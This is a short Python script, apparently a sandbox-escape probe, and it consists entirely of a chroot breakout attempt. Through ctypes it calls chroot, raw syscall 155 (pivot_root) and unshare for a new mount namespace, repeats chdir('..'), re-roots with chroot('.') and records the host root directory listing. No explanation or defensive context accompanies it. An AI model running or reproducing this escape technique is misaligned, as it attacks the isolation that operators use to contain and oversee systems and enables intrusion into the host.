import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
os.makedirs("jail", exist_ok=True)
codes = [libc.chroot(b"jail"), libc.syscall(155, b".", b"."), libc.unshare(0x20000)]
for _ in range(20):
    libc.chdir(b"..")
codes.append(libc.chroot(b"."))
results = {"codes": codes, "root": sorted(os.listdir("/"))[:30]}
